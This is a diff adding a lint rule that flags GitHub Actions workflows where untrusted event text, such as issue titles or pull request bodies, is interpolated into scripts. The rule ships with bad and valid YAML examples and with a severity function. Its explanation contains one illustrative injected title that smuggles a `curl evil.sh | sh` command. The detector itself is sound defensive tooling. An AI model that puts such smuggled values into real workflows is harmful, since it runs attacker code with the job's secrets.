@@ -1,0 +1,203 @@
+import {
+  codeInputs,
+  fix,
+  moveToVariable,
+  type Severity,
+  severity,
+  type UntrustedRead,
+  untrustedReads,
+  type WorkflowFile,
+  workflowRule,
+  yaml,
+} from '#core';
+
+/** Events that anyone can cause, and whose runs hold secrets and a token that may write. */
+const PRIVILEGED = new Set([
+  'pull_request_target',
+  'issues',
+  'issue_comment',
+  'discussion',
+  'discussion_comment',
+  'workflow_run',
+  'gollum',
+  'fork',
+  'watch',
+]);
+
+export default workflowRule({
+  title: 'Text of strangers is run as code',
+  category: 'security',
+  severity: 'high',
+  profile: 'recommended',
+  why: 'Expressions are put into a script before a shell reads it: a title such as `a"; curl evil.sh | sh; "` runs as part of it, with the job’s secrets.',
+  equivalents: [
+    'actionlint:expression',
+    'zizmor:template-injection',
+    'checkov:CKV_GHA_2',
+    'poutine:injection',
+    'kics:run_block_injection',
+    'kics:script_block_injection',
+  ],
+
+  visit: {
+    expression(expression, report) {
+      const { step, file } = expression;
+      const input = step && codeInputs(step).find((one) => one.scalar === expression.scalar);
+      if (!input) return;
+      const reads = untrustedReads(expression.ast, expression).filter((read) => read.grade !== 'writer');
+      const read = reads.find((one) => one.grade === 'arbitrary') ?? reads[0];
+      if (!read) return;
+      const name = `\`${read.source}\``;
+      const where = input.name === 'run' ? 'the script' : `\`${input.name}\``;
+      report(
+        expression.span,
+        read.through
+          ? `\`${read.through.name}\` holds ${name}, text of strangers, and is run as part of ${where}.`
+          : `${name} is text of strangers and is run as part of ${where}.`,
+        severity(severityOf(read, file)),
+        fix('unsafe', 'Hand it over in a variable', () => moveToVariable(expression, input)),
+      );
+    },
+  },
+
+  fixSafety: 'A script that relied on the text being split into words, or on code in it, behaves differently.',
+
+  examples: [
+    {
+      bad: yaml`
+        on: issues
+        jobs:
+          greet:
+            runs-on: ubuntu-24.04
+            steps:
+              - name: Greet
+                run: |
+                  # says hello
+                  echo "New: \${{ github.event.issue.title }}!"
+                             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` is text of strangers and is run as part of the script.
+                  ./greet \${{ github.event.issue.title }}
+                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` is text of strangers and is run as part of the script.
+      `,
+      good: yaml`
+      `,
+    },
+    {
+      title: 'Into the environment that is there',
+      bad: yaml`
+        on: pull_request_target
+        jobs:
+          greet:
+            runs-on: ubuntu-24.04
+            steps:
+              - run: ./greet "\${{ github.event.pull_request.body }}" \${{ github.head_ref }}
+                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.pull_request.body\` is text of strangers and is run as part of the script.
+                                                                     ^^^^^^^^^^^^^^^^^^^^^^ \`github.head_ref\` is text of strangers and is run as part of the script.
+                env: { LANGUAGE: de }
+      `,
+      good: yaml`
+      `,
+    },
+    {
+      title: 'A default variable',
+      bad: yaml`
+        on: pull_request
+        jobs:
+          greet:
+            runs-on: ubuntu-24.04
+            steps:
+              - run: git switch \${{ github.head_ref }}
+                                ^^^^^^^^^^^^^^^^^^^^^^ \`github.head_ref\` is text of strangers and is run as part of the script.
+      `,
+      good: yaml`
+      `,
+    },
+    {
+      title: 'A variable that holds it already',
+      bad: yaml`
+        on: issue_comment
+        env:
+          COMMENT: \${{ github.event.comment.body }}
+        jobs:
+          greet:
+            runs-on: ubuntu-24.04
+            steps:
+              - run: echo "\${{ github.event.comment.body }}" "\${{ env.COMMENT }}"
+                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.comment.body\` is text of strangers and is run as part of the script.
+                                                              ^^^^^^^^^^^^^^^^^^ \`COMMENT\` holds \`github.event.comment.body\`, text of strangers, and is run as part of the script.
+      `,
+      good: yaml`
+      `,
+    },
+    {
+      title: 'PowerShell',
+      bad: yaml`
+        on: issues
+        jobs:
+          greet:
+            runs-on: windows-2025
+            steps:
+              - run: Write-Output "New \${{ github.event.issue.title }}" # here
+                                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` is text of strangers and is run as part of the script.
+      `,
+      good: yaml`
+      `,
+    },
+    {
+      title: 'A script for github-script',
+      bad: yaml`
+        on: issues
+        jobs:
+          greet:
+            runs-on: ubuntu-24.04
+            steps:
+              - uses: actions/github-script@v9
+                with:
+                  script: |
+                    const title = '\${{ github.event.issue.title }}';
+                                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` is text of strangers and is run as part of \`script\`.
+                    core.info(\`New: \${title}\`);
+      `,
+      good: yaml`
+      `,
+    },
+    {
+      title: 'Where a variable would not be expanded, there is no fix',
+      bad: yaml`
+        on: issues
+        jobs:
+          greet:
+            runs-on: ubuntu-24.04
+            steps:
+              - run: echo '\${{ github.event.issue.title }}'
+                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` is text of strangers and is run as part of the script.
+              - run: print("\${{ github.event.issue.title }}")
+                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` is text of strangers and is run as part of the script.
+                shell: python
+      `,
+    },
+  ],
+
+  valid: [
+    yaml`
+      on: [issues, pull_request]
+      jobs:
+        greet:
+          runs-on: ubuntu-24.04
+          steps:
+            - run: echo "\${{ contains(github.event.issue.title, 'x') }} \${{ github.event.issue.number }} $TITLE"
+              env:
+                TITLE: \${{ github.event.issue.title }}
+            - run: echo "\${{ github.event.pull_request.head.repo.fork && 'fork' || 'own' }} \${{ github.event.comment.body }}"
+            - uses: some/action@3d3c42e5aac5ba805825da76410c181273ba90b1
+              with:
+                title: \${{ github.event.issue.title }}
+    `,
+  ],
+});
+
+function severityOf(read: UntrustedRead, file: WorkflowFile): Severity {
+  if (read.grade === 'structured') return 'medium';
+  if (file.triggers.some((trigger) => PRIVILEGED.has(trigger.name))) return 'critical';
+  // A fork's run has no secrets, and its author may change the script anyway.
+  return file.triggers.length > 0 && file.triggers.every((trigger) => trigger.name === 'pull_request') ? 'medium' : 'high';
+}
